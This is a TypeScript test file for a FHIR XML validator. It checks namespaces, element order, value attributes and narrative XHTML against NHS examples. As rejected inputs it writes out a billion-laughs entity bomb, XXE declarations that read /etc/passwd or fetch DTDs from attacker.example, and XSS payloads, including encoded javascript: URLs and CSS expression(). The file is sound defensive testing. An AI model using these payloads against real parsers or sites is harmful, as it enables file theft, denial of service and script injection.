/** The XML rules of FHIR on payloads (readXmlPayload): issues with FHIRPath and line, security refusals, the narrative subset. */
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { ElementModel } from '../../scripts/resolve/element-model.js';
import type { ValidationIssue } from '../../scripts/validate/issues.js';
import { checkNarrativeDiv } from '../../scripts/validate/xml-narrative.js';
import { readXmlPayload } from '../../scripts/validate/xml-rules.js';
import { coreIndex, nhsAssetsDir } from '../helpers/shared.js';

const model = ElementModel.fromSource(coreIndex());
const NS = 'xmlns="http://hl7.org/fhir"';
const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';

function issues(xml: string | Uint8Array): ValidationIssue[] {
  return readXmlPayload(xml, model).issues;
}

/** `expression@line code: message` for compact comparisons. */
function brief(list: ValidationIssue[]): string[] {
  return list.map((i) => `${i.expression}@${i.line ?? '-'} ${i.code}: ${i.diagnostics}`);
}

function patient(body: string): string {
  return `<Patient ${NS}>\n${body}\n</Patient>`;
}

function narrative(div: string): string {
  return patient(`<text><status value="generated"/>${div}</text>`);
}

describe('security: nothing declared, nothing expanded, nothing fetched', () => {
  it('refuses a billion-laughs document at once, as a security issue on its line', () => {
    const entities = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE Patient [\n${entities.join('\n')}\n]>\n<Patient ${NS}><id value="&lol9;"/></Patient>`;
    const read = readXmlPayload(xml, model);
    expect(read.resource).toBeUndefined();
    expect(read.issues).toEqual([expect.objectContaining({ severity: 'fatal', code: 'security', expression: 'Patient', line: 2 })]);
    expect(read.issues[0].diagnostics).toMatch(/DOCTYPE .* not allowed/);
  });

  it('refuses external entities (XXE), with a SYSTEM or PUBLIC identifier, and parameter entities', () => {
    for (const decl of [
      '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
      '<!ENTITY xxe PUBLIC "-//X//Y" "http://attacker.example/x.dtd">',
      '<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;',
    ]) {
      const read = readXmlPayload(`<?xml version="1.0"?>\n<!DOCTYPE Patient [${decl}]>\n<Patient ${NS}><id value="&xxe;"/></Patient>`, model);
      expect(read.resource).toBeUndefined();
      expect(brief(read.issues)).toEqual([expect.stringMatching(/^Patient@2 security: DOCTYPE/)]);
      expect(JSON.stringify(read)).not.toContain('root:');
    }
  });

  it('refuses an ENTITY declaration, processing instructions and an undeclared entity reference (nothing expanded)', () => {
    expect(brief(issues(`<!ENTITY x "y"><Patient ${NS}/>`))).toEqual([expect.stringMatching(/^Patient@1 security: ENTITY declarations/)]);
    expect(brief(issues(`<?xml version="1.0"?>\n<?xml-stylesheet href="evil.xsl"?>\n<Patient ${NS}/>`))).toEqual([expect.stringMatching(/^Patient@2 security: processing instruction '<\?xml-stylesheet'/)]);
    const read = readXmlPayload(patient('<id value="a&xxe;b"/>'), model);
    expect(read.resource).toBeUndefined();
    expect(brief(read.issues)).toEqual([expect.stringMatching(/^Patient@2 structure: malformed XML: undefined entity/)]);
  });

  it('takes bytes as UTF-8 only', () => {
    expect(readXmlPayload(Buffer.from(patient('<id value="é"/>'), 'utf8'), model).resource).toEqual({ resourceType: 'Patient', id: 'é' });
    expect(brief(issues(Buffer.from('\ufeff' + patient(''), 'utf16le')))).toEqual([expect.stringMatching(/UTF-16: FHIR XML must be UTF-8/)]);
    expect(brief(issues(Buffer.from([0x3c, 0x50, 0xff, 0x3e])))).toEqual([expect.stringMatching(/not valid UTF-8/)]);
    expect(brief(issues(`<?xml version="1.0" encoding="ISO-8859-1"?>\n${patient('')}`))).toEqual(['Patient@1 structure: encoding \'ISO-8859-1\' is declared: FHIR XML must be UTF-8']);
  });

  it('refuses nesting deeper than the reader allows as one fatal issue, without overflowing the stack', () => {
    const deep = `<Patient ${NS}>${'<extension url="u">'.repeat(10000)}${'</extension>'.repeat(10000)}</Patient>`;
    const read = readXmlPayload(deep, model);
    expect(read.resource).toBeUndefined();
    expect(read.issues).toEqual([expect.objectContaining({ severity: 'fatal', code: 'structure' })]);
  });

  it('reports malformed XML with its line and no resource', () => {
    const read = readXmlPayload(patient('<active value="true">'), model);
    expect(read.resource).toBeUndefined();
    expect(read.issues).toEqual([expect.objectContaining({ code: 'structure', line: 3 })]);
  });
});

describe('FHIR XML structure', () => {
  it('gives FHIRPath locations with indexes, and lines', () => {
    const xml = patient(['<name>', '  <given value="A"/>', '  <given value="B">', '    <foo value="x"/>', '  </given>', '</name>'].join('\n'));
    const read = readXmlPayload(xml, model);
    expect(brief(read.issues)).toEqual(["Patient.name[0].given[1].foo@5 structure: unknown element 'foo'"]);
    expect(read.resource).toEqual({ resourceType: 'Patient', name: [{ given: ['A', 'B'] }] });
    expect(read.lineOf('Patient.name[0].given[1]')).toBe(4);
    expect(read.lineOf('Patient.name[0].given[1].extension[0].url')).toBe(4); // not an element of the XML: its nearest enclosing one
  });

  it('requires the FHIR namespace on the root and on every element', () => {
    expect(brief(issues('<Patient><id value="x"/></Patient>'))).toEqual(["Patient@1 structure: root element 'Patient' is in namespace '(none)', not 'http://hl7.org/fhir'"]);
    expect(readXmlPayload('<Patient><id value="x"/></Patient>', model).resource).toEqual({ resourceType: 'Patient', id: 'x' }); // read on, so every other problem shows
    expect(brief(issues('<Patient xmlns="http://hl7.org/fhir/x"/>'))).toEqual([expect.stringMatching(/^Patient@1 structure: root element 'Patient' is in namespace 'http:\/\/hl7.org\/fhir\/x'/)]);
    expect(brief(issues(patient('<active xmlns="urn:x" value="true"/>')))).toEqual(["Patient.active@2 structure: element 'active' is in namespace 'urn:x', expected 'http://hl7.org/fhir'"]);
  });

  it('reports an element out of definition order at its location, and still reads it into place', () => {
    const read = readXmlPayload(patient('<gender value="male"/>\n<active value="true"/>'), model);
    expect(brief(read.issues)).toEqual(["Patient.active@3 structure: element 'active' is out of order (FHIR XML follows the definition order)"]);
    expect(Object.keys(read.resource ?? {})).toEqual(['resourceType', 'active', 'gender']);
  });

  it('allows `value` only where the definition has it, never empty', () => {
    expect(brief(issues(patient('<name value="x"/>')))).toEqual(["Patient.name[0]@2 structure: unknown attribute 'value'"]);
    expect(brief(issues(patient('<gender value=""/>')))).toEqual(["Patient.gender@2 value: attribute 'value' is empty (FHIR XML leaves out a value it does not have)"]);
    expect(brief(issues(patient('<active value="yes"/>')))).toEqual(["Patient.active@2 value: 'yes' is not a valid boolean"]);
    expect(brief(issues(patient('<gender/>')))).toEqual(["Patient.gender@2 invariant: 'gender' has no value, id or extension (ele-1: every element has a value or children)"]);
  });

  it('allows `id` and `url` attributes only where the definition makes them attributes', () => {
    expect(issues(patient('<name id="n1"><family value="X"/></name><extension url="http://e.example"><valueString value="v"/></extension>'.replace(/<extension.*<\/extension>/, '')))).toEqual([]);
    expect(brief(issues(`<Patient ${NS} id="p1"/>`))).toEqual(["Patient@1 structure: unknown attribute 'id'"]); // a resource's id is an element
    expect(brief(issues(patient('<name url="http://x"/>')))).toEqual(["Patient.name[0]@2 structure: unknown attribute 'url'"]);
    expect(brief(issues(patient('<extension url=""><valueString value="v"/></extension>')))).toEqual(["Patient.extension[0].url@2 value: attribute 'url' is empty (FHIR XML leaves out a value it does not have)"]);
  });

  it('refuses text content in FHIR elements', () => {
    expect(brief(issues(patient('<active value="true">true</active>')))).toEqual(['Patient.active@2 structure: text content is not allowed here (FHIR XML carries values in attributes)']);
    expect(brief(issues(patient('<name>Smith</name>')))).toEqual(['Patient.name[0]@2 structure: text content is not allowed here (FHIR XML carries values in attributes)']);
  });

  it('reads contained resources and Bundle entries with their own paths', () => {
    const xml = `<Bundle ${NS}>\n<type value="collection"/>\n<entry>\n<resource>\n<Patient>\n<bogus/>\n</Patient>\n</resource>\n</entry>\n</Bundle>`;
    expect(brief(issues(xml))).toEqual(["Bundle.entry[0].resource.bogus@6 structure: unknown element 'bogus'"]);
  });
});

describe('the narrative div', () => {
  it('accepts the XHTML FHIR allows', () => {
    const div = `<div ${XHTML}><h1 class="c">T</h1><p style="color:red" title="t">a <b>b</b> <a href="http://x.example">x</a></p><table border="1"><tr><td colspan="2">c</td></tr></table><img src="#i" alt="i"/><ul><li>l</li></ul></div>`;
    expect(issues(narrative(div))).toEqual([]);
  });

  it('refuses scripts, event attributes, script URLs, forms, objects and attributes outside the subset', () => {
    const div = `<div ${XHTML}>\n<p onclick="alert(1)">x</p>\n<script>alert(1)</script>\n<a href="javascript:alert(1)">y</a>\n<form><input/></form>\n<object data="x"/>\n<p align="left" foo="bar">z</p>\n</div>`;
    expect(brief(issues(narrative(div)))).toEqual([
      "Patient.text.div@3 security: event attribute 'onclick' on 'p' is not allowed in a FHIR narrative (no scripts)",
      "Patient.text.div@4 security: element 'script' is not allowed in a FHIR narrative (only basic HTML formatting; no scripts, forms, frames, objects, head or body)",
      "Patient.text.div@5 security: 'href' on 'a' holds a script URL, which a FHIR narrative must not carry",
      "Patient.text.div@6 security: element 'form' is not allowed in a FHIR narrative (only basic HTML formatting; no scripts, forms, frames, objects, head or body)",
      "Patient.text.div@6 security: element 'input' is not allowed in a FHIR narrative (only basic HTML formatting; no scripts, forms, frames, objects, head or body)",
      "Patient.text.div@7 security: element 'object' is not allowed in a FHIR narrative (only basic HTML formatting; no scripts, forms, frames, objects, head or body)",
      "Patient.text.div@8 invalid: attribute 'foo' is not allowed on 'p' in a FHIR narrative",
    ]);
  });

  it('sees through encoded and spaced-out script URLs, and refuses script in style', () => {
    const div = `<div ${XHTML}>\n<a href="&#x6A;ava&#9;script&#58;alert(1)">x</a>\n<img src=" JAVASCRIPT:x" alt="i"/>\n<p style="width: expression(alert(1))">y</p>\n<img src="data:image/png;base64,AAAA" alt="ok"/>\n</div>`;
    expect(brief(issues(narrative(div)))).toEqual([
      "Patient.text.div@3 security: 'href' on 'a' holds a script URL, which a FHIR narrative must not carry",
      "Patient.text.div@4 security: 'src' on 'img' holds a script URL, which a FHIR narrative must not carry",
      "Patient.text.div@5 security: 'style' on 'p' holds script or an imported style sheet, which a FHIR narrative must not carry",
    ]);
  });

  it('requires the XHTML namespace and some content', () => {
    expect(brief(issues(narrative('<div>x</div>')))).toEqual(["Patient.text.div@2 structure: element 'div' is in namespace 'http://hl7.org/fhir', expected 'http://www.w3.org/1999/xhtml'"]);
    expect(brief(issues(narrative(`<div ${XHTML}> <p/> </div>`)))).toEqual(['Patient.text.div@2 invariant: the narrative has no non-whitespace content (txt-2)']);
    expect(brief(issues(narrative(`<div ${XHTML}><p xmlns="urn:x">x</p></div>`)))).toEqual(["Patient.text.div@2 structure: element 'p' in the narrative is not in the XHTML namespace"]);
  });

  it('checks a JSON payload narrative string the same way', () => {
    expect(checkNarrativeDiv(`<div ${XHTML}><p>ok</p></div>`, 'Patient.text.div')).toEqual([]);
    expect(checkNarrativeDiv(`<div ${XHTML}><p onmouseover="x()">no</p></div>`, 'Patient.text.div')).toEqual([expect.objectContaining({ code: 'security', expression: 'Patient.text.div' })]);
    expect(checkNarrativeDiv('<div xmlns="http://www.w3.org/1999/xhtml"><!DOCTYPE x></div>', 'Patient.text.div')).toEqual([expect.objectContaining({ severity: 'error', code: 'security' })]);
  });
});

describe('the NHS corpus examples', () => {
  const dir = join(nhsAssetsDir, 'Examples');
  const files = readdirSync(dir).filter((f) => f.endsWith('.xml')).sort();

  it('pass the XML rules (the one with an emptied Bundle is reported by the JSON layer, not here)', () => {
    expect(files.length).toBeGreaterThan(40);
    const found: string[] = [];
    for (const f of files) for (const line of brief(readXmlPayload(readFileSync(join(dir, f)), model).issues)) found.push(`${f}: ${line}`);
    expect(found).toEqual([]);
  });
});
